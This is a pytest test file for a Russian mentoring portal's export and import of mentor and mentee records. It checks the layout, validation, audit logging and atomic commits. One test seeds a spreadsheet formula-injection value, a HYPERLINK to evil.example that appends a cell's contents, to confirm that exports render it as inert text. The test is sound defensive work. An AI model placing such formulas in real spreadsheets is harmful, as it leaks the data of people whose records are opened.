"""Export of the bases to XLSX/CSV and import from them: official layout, all or nothing."""

import io
from datetime import date, timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from werkzeug.test import EnvironBuilder

from portal.audit import AuditEvent
from portal.extensions import db
from portal.people import imports
from portal.people.columns import columns_for, importable_columns
from portal.people.models import ImportBatch, Person, PersonTag, Tag
from portal.timeutil import today_moscow
from tests import factories

TODAY = today_moscow()


def aged(years: int) -> date:
    return (
        date(TODAY.year - years, 1, 10)
        if TODAY >= date(TODAY.year, 1, 10)
        else date(TODAY.year - years - 1, 1, 10)
    )


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def xlsx(rows: list[list], headers: list[str] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["Форма ведения базы наставляемых"])
    sheet.append(
        headers
        or [
            "ФИО",
            "Дата рождения",
            "Категория",
            "Объединение",
            "Класс / год обучения",
            "Телефон",
            "Интересы",
            "Статус",
        ]
    )
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def good_row(i: int = 0, **overrides) -> list:
    first = ("Пётр", "Анна", "Олег", "Мария", "Илья", "Дарья", "Лев", "Ксения", "Глеб", "Вера")[i]
    row = {
        "fio": f"Иванов{'а' if i % 2 else ''} {first} Олегович",
        "birth": aged(12),
        "category": "обучающийся",
        "club": "Шахматы",
        "level": 6,
        "phone": "8 915 000 00 0" + str(i % 10),
        "tags": "шахматы, олимпиады",
        "status": "кандидат",
    }
    row.update(overrides)
    return list(row.values())


def upload(client, data: bytes, filename: str = "база.xlsx", base: str = "mentees"):
    return client.post(
        "/people/import",
        data={"base": base, "file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
        follow_redirects=True,
    )


def analyse(data: bytes, filename: str, base: str):
    """The report of a file whose header is the portal's: straight to the preview."""
    user = factories.make_user(login="checker", roles=["curator"])
    batch = imports.start_batch(data, filename, base, user)
    assert batch.mapping is not None
    return imports.analyse(batch)


# --- export -------------------------------------------------------------------------------------


def test_export_xlsx_in_the_official_layout_with_pair_columns(app, client, auth, group):
    mentor = factories.make_person(
        "Кузнецова",
        "Елена",
        "Сергеевна",
        category="педагог",
        birth_date=aged(41),
        is_mentor=True,
        consent=True,
        workplace="МБУ ДО Центр «Эдельвейс»",
    )
    child = factories.make_person(
        "Орлов",
        "Дмитрий",
        "Андреевич",
        birth_date=aged(12),
        is_mentee=True,
        club="Робототехника",
        consent=True,
        interests=["роботы"],
        entered_on=date(2026, 9, 1),
    )
    factories.make_person(
        "Королёв", "Иван", "Ильич", birth_date=aged(11), is_mentee=True, club="Шахматы"
    )
    factories.make_pair(mentor, [child])
    auth.login(group)  # the working group reads and exports the bases
    response = client.get("/people/export.xlsx?base=mentees")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet["A1"].value == "Форма ведения базы наставляемых МБУ ДО Центра «Эдельвейс»"
    headers = [c.value for c in sheet[3]]
    assert headers == [c.title for c in columns_for("mentees")]
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref.startswith("A3")
    rows = {
        r[0]: dict(zip(headers, r, strict=True))
        for r in sheet.iter_rows(min_row=4, values_only=True)
    }
    orlov = rows["Орлов Дмитрий Андреевич"]
    assert orlov["ФИО наставника"] == "Кузнецова Елена Сергеевна"
    assert orlov["Место работы/учёбы наставника"] == "МБУ ДО Центр «Эдельвейс»"
    assert orlov["Форма наставничества"] == "педагог – ученик"
    assert orlov["Дата вхождения в программу"].date() == date(2026, 9, 1)  # a real date
    assert sheet.cell(row=4, column=2).number_format == "DD.MM.YYYY"
    assert orlov["Согласие на обработку ПД"] == "действует"
    assert rows["Королёв Иван Ильич"]["ФИО наставника"] is None
    assert sheet.column_dimensions["A"].width >= 30


def test_export_mentors_lists_their_mentees_and_csv_has_bom(app, client, auth, curator):
    mentor = factories.make_person(
        "Кузнецова",
        "Елена",
        "Сергеевна",
        category="педагог",
        birth_date=aged(41),
        is_mentor=True,
        workplace="Центр",
        desired_age_min=10,
        desired_age_max=14,
    )
    a = factories.make_person("Орлов", "Дмитрий", birth_date=aged(12), is_mentee=True)
    b = factories.make_person("Белова", "Анна", birth_date=aged(13), is_mentee=True)
    factories.make_pair(mentor, [a, b])
    auth.login(curator)
    sheet = load_workbook(io.BytesIO(client.get("/people/export.xlsx?base=mentors").data)).active
    assert sheet["A1"].value.startswith("Форма ведения базы наставников")
    headers = [c.value for c in sheet[3]]
    row = dict(zip(headers, next(sheet.iter_rows(min_row=4, values_only=True)), strict=True))
    assert row["ФИО наставляемых"] == "Орлов Дмитрий Иванович; Белова Анна Иванович"
    assert row["Желаемый возраст наставляемых"] == "10–14"
    csv = client.get("/people/export.csv?base=mentors")
    assert csv.data.startswith(b"\xef\xbb\xbf")
    text = csv.data.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("ФИО;Дата рождения;")
    assert "Кузнецова Елена Сергеевна" in text


def test_export_cells_never_become_formulas_and_the_export_is_logged(app, client, auth, group):
    factories.make_person(
        "Орлов",
        "Дмитрий",
        "Андреевич",
        birth_date=aged(12),
        is_mentee=True,
        club='=HYPERLINK("http://evil.example/?"&A4,"Жми")',
        key_request="+79151234567 позвонить",
        achievements="@SUM(1+1)",
    )
    auth.login(group)
    sheet = load_workbook(io.BytesIO(client.get("/people/export.xlsx?base=mentees").data)).active
    headers = [c.value for c in sheet[3]]
    cells = dict(zip(headers, sheet[4], strict=True))
    club = cells["Объединение"]
    assert club.data_type == "s" and club.value.startswith("=HYPERLINK")  # text, not a formula
    assert cells["Ключевой запрос наставляемого"].value == "+79151234567 позвонить"
    text = client.get("/people/export.csv?base=mentees").data.decode("utf-8-sig")
    row = text.splitlines()[1]
    assert ";'=HYPERLINK" in row.replace('"', "") and "'+79151234567" in row
    # 152-ФЗ: who exported which base is in the audit log.
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "people_exported")
    ).all()
    assert [(e.user_login, e.summary) for e in events] == [
        ("group", "Выгрузка: наставляемые, XLSX, строк: 1"),
        ("group", "Выгрузка: наставляемые, CSV, строк: 1"),
    ]


def test_export_respects_the_filters(app, client, auth, curator):
    factories.make_person("Иванов", "Пётр", "Олегович", is_mentee=True, club="Шахматы")
    factories.make_person("Сидоров", "Антон", "Олегович", is_mentee=True, club="Шахматы")
    auth.login(curator)
    text = client.get("/people/export.csv?base=mentees&q=иванов").data.decode("utf-8-sig")
    assert "Иванов Пётр" in text and "Сидоров" not in text


def test_unknown_base_is_404(app, client, auth, curator):
    auth.login(curator)
    assert client.get("/people/export.xlsx?base=parents").status_code == 404


# --- import: the happy path --------------------------------------------------------------------


def test_template_has_the_importable_columns(app, client, auth, curator):
    auth.login(curator)
    response = client.get("/people/import/template.xlsx?base=mentors")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [c.value for c in sheet[3]] == [c.title for c in importable_columns("mentors")]


def test_import_previews_then_commits_everything(app, client, auth, curator):
    existing = factories.make_person(
        "Иванов", "Пётр", "Олегович", birth_date=aged(12), is_mentee=True, club="Шахматы"
    )
    factories.make_person("Тег", "Тегов", interests=["Шахматы"])
    auth.login(curator)
    data = xlsx([good_row(i) for i in range(6)])
    response = upload(client, data)
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "новых: 5" in html and "уже в базе: 1" in html
    assert f"/people/{existing.id}" in html
    assert count(Person) == 2  # the preview stores nothing but the batch
    batch = db.session.scalars(select(ImportBatch)).one()
    assert batch.owner_id == curator.id and batch.row_count == 6
    response = client.post(f"/people/import/{batch.id}/commit")
    assert response.status_code == 302
    assert count(Person) == 7
    imported = db.session.scalar(select(Person).where(Person.first_name == "Мария"))
    assert imported.is_mentee and imported.phone == "+7 (915) 000-00-03"
    assert imported.search_key == "иванова мария олегович"
    assert imported.tag_names("interest") == ["Шахматы", "олимпиады"]
    # «шахматы» joined the vocabulary's «Шахматы»: no second tag.
    assert count(Tag) == 2
    audit_ids = set(
        db.session.scalars(
            select(AuditEvent.object_id).where(AuditEvent.action == "person_imported")
        )
    )
    assert imported.id in audit_ids
    # Committing twice does nothing more.
    client.post(f"/people/import/{batch.id}/commit")
    assert count(Person) == 7


def test_export_can_be_imported_back(app, client, auth, curator):
    factories.make_person(
        "Орлов",
        "Дмитрий",
        "Андреевич",
        birth_date=aged(12),
        is_mentee=True,
        club="Робототехника",
        interests=["роботы"],
    )
    auth.login(curator)
    exported = client.get("/people/export.xlsx?base=mentees").data
    db.session.execute(PersonTag.__table__.delete())
    db.session.execute(Person.__table__.delete())
    db.session.commit()
    response = upload(client, exported, "выгрузка.xlsx")
    html = response.get_data(as_text=True)
    # The portal's own columns are not loaded, and «Ошибок нет» says so in the same breath.
    assert "Ошибок нет" in html and "Но не загружаются столбцы с данными" in html
    assert "«Возраст» (заполняет портал)" in html
    batch = db.session.scalars(select(ImportBatch)).one()
    client.post(f"/people/import/{batch.id}/commit")
    person = db.session.scalars(select(Person)).one()
    assert person.full_name == "Орлов Дмитрий Андреевич" and person.club == "Робототехника"


def test_csv_import_in_windows_1251(app, client, auth, curator):
    auth.login(curator)
    text = (
        f"ФИО;Дата рождения;Объединение\r\nПетрова Анна Ивановна;{aged(13):%d.%m.%Y};Изостудия\r\n"
    )
    response = upload(client, text.encode("cp1251"), "база.csv")
    assert "новых: 1" in response.get_data(as_text=True)


# --- import: bad input ---------------------------------------------------------------------------


def test_a_failure_in_the_middle_of_the_commit_leaves_nothing(
    app, client, auth, curator, monkeypatch
):
    auth.login(curator)
    upload(client, xlsx([good_row(i) for i in range(4)]))
    batch = db.session.scalars(select(ImportBatch)).one()
    before = count(AuditEvent)

    def broken(*args, **kwargs):  # the people and their tags are inserted by now
        raise RuntimeError("соединение с базой оборвалось")

    monkeypatch.setattr(imports, "_event", broken)
    with pytest.raises(RuntimeError):
        client.post(f"/people/import/{batch.id}/commit")
    db.session.rollback()  # what the request's teardown does in production
    assert count(Person) == 0 and count(PersonTag) == 0 and count(Tag) == 0
    assert count(AuditEvent) == before
    batch = db.session.get(ImportBatch, batch.id)
    assert batch.committed_at is None  # the user can try again
    monkeypatch.undo()
    response = client.post(f"/people/import/{batch.id}/commit")
    assert response.status_code == 302 and count(Person) == 4


def test_one_bad_row_stores_nothing_and_names_row_and_column(app, client, auth, curator):
    auth.login(curator)
    future = TODAY + timedelta(days=10)
    rows = [good_row(i) for i in range(5)]
    rows.insert(4, good_row(9, birth=future))  # spreadsheet row 7: title, header, 4 rows
    response = upload(client, xlsx(rows))
    html = response.get_data(as_text=True)
    assert "Строка 7, столбец «Дата рождения»: дата в будущем" in html
    assert "ничего не будет записано" in html
    batch = db.session.scalars(select(ImportBatch)).one()
    response = client.post(f"/people/import/{batch.id}/commit")
    assert count(Person) == 0
    follow = client.get(response.location).get_data(as_text=True)
    assert "ничего не сохранено" in follow


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (good_row(birth="31.02.2014"), "Строка 3, столбец «Дата рождения»: такой даты нет"),
        (good_row(fio="Одно"), "Строка 3, столбец «ФИО»: нужны как минимум фамилия и имя"),
        (
            good_row(fio="Иванов Пётр " + "О" * 120),
            "Строка 3, столбец «ФИО»: не длиннее 100 символов",
        ),
        (good_row(phone="12-34"), "Строка 3, столбец «Телефон»: ожидается российский номер"),
        (good_row(category="директор"), "Строка 3, столбец «Категория»: неизвестная категория"),
        (good_row(level=15), "Строка 3, столбец «Класс / год обучения»: ожидается число от 1"),
        (good_row(club=None), "Строка 3, столбец «Объединение»: обязательное поле"),
    ],
)
def test_bad_rows_get_messages_naming_row_and_column(app, row, message):
    report = analyse(xlsx([row]), "база.xlsx", "mentees")
    assert any(e.startswith(message) for e in report.errors), report.errors


def test_duplicates_inside_the_file_are_errors(app):
    report = analyse(xlsx([good_row(1), good_row(2), good_row(1)]), "база.xlsx", "mentees")
    assert report.errors == ["Строка 5: повторяет строку 3 (те же ФИО и дата рождения)"]


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "base.xlsx", "Файл пустой"),
        ("Список\r\nИванов\r\n".encode(), "base.csv", "Не найдена строка заголовков"),
        (b"\x00\x01junk" * 1000, "base.csv", "не похож на таблицу"),
        (b"%PDF-1.4 not a table", "base.pdf", "PDF-документ"),
        (b"PK\x03\x04broken zip", "base.xlsx", "повреждён"),
        ("ФИО;Дата рождения\r\n".encode(), "base.csv", "нет ни одной строки"),
    ],
)
def test_unreadable_files_get_a_clear_message_and_nothing_is_kept(
    app, client, auth, curator, data, filename, message
):
    auth.login(curator)
    response = upload(client, data, filename)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert count(ImportBatch) == 0 and count(Person) == 0


def test_ten_megabytes_of_junk_are_refused(app, client, auth, curator):
    auth.login(curator)
    junk = b"\xd0\x96" * (5 * 1024 * 1024 + 10)
    # Werkzeug's test builder spools a big body to a temporary file it never closes.
    builder = EnvironBuilder(
        path="/people/import",
        method="POST",
        data={"base": "mentees", "file": (io.BytesIO(junk), "base.csv")},
    )
    environ = builder.get_environ()
    try:
        response = client.open(environ)
    finally:
        environ["wsgi.input"].close()
        builder.close()
    assert response.status_code in (413, 422)
    assert "10 МБ" in response.get_data(as_text=True)
    assert count(Person) == 0


def test_a_header_without_names_goes_to_the_mapping_step_which_names_the_field(
    app, client, auth, curator
):
    auth.login(curator)
    data = xlsx([["Петя", 12]], headers=["Ребёнок", "Возраст"])
    response = upload(client, data)
    html = response.get_data(as_text=True)
    # The header found is shown with the sheet and row, not a generic refusal.
    assert "Столбцы файла" in html and "лист «Sheet», заголовок — строка 2" in html
    batch = db.session.scalars(select(ImportBatch)).one()
    response = client.post(
        f"/people/import/{batch.id}/columns",
        data={"sheet": "Sheet", "header_row": "2", "count": "2", "column-0": "", "column-1": ""},
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "Не выбран столбец для поля «ФИО»" in html
    assert count(Person) == 0 and batch.mapping is None


def test_a_batch_is_committed_only_by_its_owner(app, client, auth, curator, admin):
    auth.login(curator)
    upload(client, xlsx([good_row(1)]))
    batch = db.session.scalars(select(ImportBatch)).one()
    auth.login(admin)
    response = client.post(f"/people/import/{batch.id}/commit")
    assert response.status_code == 403
    assert count(Person) == 0
